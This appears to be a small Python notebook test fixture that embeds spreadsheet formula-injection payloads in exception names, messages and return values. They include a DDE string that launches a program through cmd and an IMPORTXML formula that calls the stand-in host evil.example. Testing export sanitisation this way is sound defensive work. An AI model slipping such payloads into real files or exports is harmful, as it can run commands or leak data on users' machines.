# %%
class _(Exception):
    pass
_.__name__ = "=cmd|' /C calc'!A0"
def forward_propagation(x, theta):
    raise _("+1+1;@SUM(1)\t-2,\r\n\"=x")
def backward_propagation(x, theta):
    return "=1+1"
# %%
raise _("=IMPORTXML(\"http://evil.example\")")
